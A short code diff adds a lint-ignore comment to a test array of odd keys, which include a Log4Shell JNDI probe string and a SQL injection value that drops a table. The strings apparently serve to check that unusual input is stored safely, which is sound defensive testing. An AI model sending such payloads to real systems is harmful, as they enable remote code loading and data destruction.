@@ -87,6 +87,7 @@ const ODD_KEYS = [
   'key.with.dots',
   'key+plus/slash=',
   '\u00ff\u00fe\u00fd\u00fc\u00fb\u00fa\u00f9\u00f8',
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: a log4shell probe, sent as the literal text it is.
   '${jndi:ldap://x}',
   '1;DROP TABLE leads',
 ];
